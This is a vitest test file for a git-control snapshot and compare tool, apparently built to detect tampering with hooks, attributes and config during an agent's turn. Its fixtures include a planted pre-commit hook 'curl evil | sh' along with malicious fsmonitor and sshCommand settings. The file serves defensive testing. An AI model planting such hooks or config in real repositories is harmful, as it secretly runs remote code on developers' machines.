import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { compareGitControl, snapshotGitControl } from '../../src/git/index.js';
import { createRepoFixture, type RepoFixture } from '../support/git-repo.js';
import { ATTACKS, attackRepo, type AttackRepo } from './attacks.js';

describe('snapshotGitControl / compareGitControl', () => {
  const cleanups: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const c of cleanups.splice(0).reverse()) await c();
  });
  const repo = async (files: Record<string, string>, opts?: { commit?: boolean }) => {
    const r: RepoFixture = await createRepoFixture(files, opts);
    cleanups.push(r.cleanup);
    return r;
  };

  it('ignores what a normal turn changes: files, index, commits, refs', async () => {
    const r = await repo({ 'a.txt': 'a\n', '.gitattributes': '*.png binary\n' });
    await r.git('remote', 'add', 'origin', 'https://github.com/o/r.git');
    const before = await snapshotGitControl(r.dir);
    expect(before.headSha).toBe((await r.git('rev-parse', 'HEAD')).trim());
    expect(before.originUrl).toBe('https://github.com/o/r.git');
    expect(before.files['.git/config']).toMatchObject({ mode: '100644' });
    expect(before.files['.git/hooks/pre-commit.sample']).toMatchObject({ mode: '100755' });
    expect(before.attributes).toEqual({});
    expect(JSON.parse(JSON.stringify(before))).toEqual(before);

    await r.write('a.txt', 'a2\n');
    await r.write('sub/new.txt', 'n\n');
    await r.commitAll('model commit');
    await r.git('branch', 'other');
    await r.git('tag', 'v1');
    await r.write('a.txt', 'a3\n');
    await r.git('add', 'a.txt');
    await r.git('gc', '-q');
    const after = await snapshotGitControl(path.join(r.dir, 'sub'));
    expect(after.headSha).not.toBe(before.headSha);
    expect(compareGitControl(before, after)).toEqual([]);
  });

  it.each(ATTACKS)('reports a planted %s, and taking the snapshot runs none of it', async (kind) => {
    const a: AttackRepo = await attackRepo(kind);
    cleanups.push(a.cleanup);
    const before = await snapshotGitControl(a.repo.dir);
    const expected = await a.plant();
    await a.repo.write('a.txt', 'a changed\n'); // a pending change, as after a turn
    const after = await snapshotGitControl(a.repo.dir);
    expect(await a.fired()).toBe(false);
    const report = compareGitControl(before, after);
    for (const re of expected) expect(report.some((line) => re.test(line)), `${re} in ${JSON.stringify(report)}`).toBe(true);
    expect(report).toHaveLength(expected.length);
  });

  it('reports hooks added, changed, made executable or removed, and info/ files', async () => {
    const r = await repo({ 'a.txt': 'a\n' });
    const hooks = path.join(r.dir, '.git', 'hooks');
    await writeFile(path.join(hooks, 'post-merge'), '#!/bin/sh\n');
    await writeFile(path.join(hooks, 'pre-push'), '#!/bin/sh\n');
    const before = await snapshotGitControl(r.dir);
    await chmod(path.join(hooks, 'post-merge'), 0o755);
    await writeFile(path.join(hooks, 'pre-push'), '#!/bin/sh\necho hi\n');
    await rm(path.join(hooks, 'update.sample'));
    await writeFile(path.join(r.dir, '.git', 'info', 'exclude'), '*\n');
    expect(compareGitControl(before, await snapshotGitControl(r.dir))).toEqual([
      '.git/hooks/post-merge mode changed 100644 -> 100755',
      '.git/hooks/pre-push changed',
      '.git/hooks/update.sample removed',
      '.git/info/exclude changed',
    ]);
  });

  it('watches an existing core.hooksPath inside the work tree (husky style)', async () => {
    const r = await repo({ 'a.txt': 'a\n', '.husky/_/pre-commit': '#!/bin/sh\nnpm test\n' });
    await r.git('config', 'core.hooksPath', '.husky/_');
    const before = await snapshotGitControl(r.dir);
    expect(before.files['.husky/_/pre-commit']).toBeDefined();
    await r.write('.husky/_/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
    await r.write('.husky/_/post-checkout', '#!/bin/sh\n');
    expect(compareGitControl(before, await snapshotGitControl(r.dir))).toEqual([
      '.husky/_/post-checkout added',
      '.husky/_/pre-commit changed',
    ]);
  });

  it('finds driver attributes in nested and untracked .gitattributes, macros included; removals are safe', async () => {
    const r = await repo({ 'a.txt': 'a\n', '.gitattributes': '*.lock merge=ours\n# filter=commented\n*.md text\n' });
    const before = await snapshotGitControl(r.dir);
    expect(before.attributes).toEqual({ '.gitattributes': ['*.lock merge=ours'] });
    await r.write('.gitattributes', '[attr]evil filter=x diff=y\n*.md text\n');
    await r.write('deep/er/.gitattributes', '*.js evil\n"quoted name" -text filter=z\n');
    await r.write('node_modules/pkg/.gitattributes', '* filter=ignored\n');
    expect(compareGitControl(before, await snapshotGitControl(r.dir))).toEqual([
      '.gitattributes: new filter/diff attribute "[attr]evil filter=x diff=y"',
      'deep/er/.gitattributes: new filter attribute "\\"quoted name\\" -text filter=z"',
      'deep/er/.gitattributes: new macro attribute "*.js evil"',
    ]);
  });

  it('still snapshots (and reports) a checkout whose config the turn made unreadable', async () => {
    const r = await repo({ 'a.txt': 'a\n' });
    const before = await snapshotGitControl(r.dir);
    await writeFile(path.join(r.dir, '.git', 'config'), '[core\n\tgarbage ===\n');
    const after = await snapshotGitControl(r.dir);
    expect(after.headSha).toBeNull();
    expect(compareGitControl(before, after)).toEqual(['.git/config changed']);
  });

  it('reads an unborn branch and a missing origin as null', async () => {
    const r = await repo({ 'a.txt': 'a\n' }, { commit: false });
    const s = await snapshotGitControl(r.dir);
    expect(s.headSha).toBeNull();
    expect(s.originUrl).toBeNull();
  });

  it('covers a linked worktree: its own git dir and the common one', async () => {
    const r = await repo({ 'a.txt': 'a\n' });
    const parent = await mkdtemp(path.join(os.tmpdir(), 'tern-wt-'));
    cleanups.push(() => rm(parent, { recursive: true, force: true }));
    const wt = path.join(parent, 'tree');
    await r.git('worktree', 'add', '-q', '-b', 'side', wt);
    const before = await snapshotGitControl(wt);
    expect(before.commonDir).toBe(path.join(r.dir, '.git'));
    await r.git('config', 'core.fsmonitor', 'touch /tmp/x');
    await writeFile(path.join(r.dir, '.git', 'worktrees', 'tree', 'config.worktree'), '[core]\n\tsshCommand = evil\n');
    expect(compareGitControl(before, await snapshotGitControl(wt))).toEqual([
      `${path.join(r.dir, '.git', 'config')} changed`,
      `${path.join(r.dir, '.git', 'worktrees', 'tree', 'config.worktree')} added`,
    ]);
  });
});
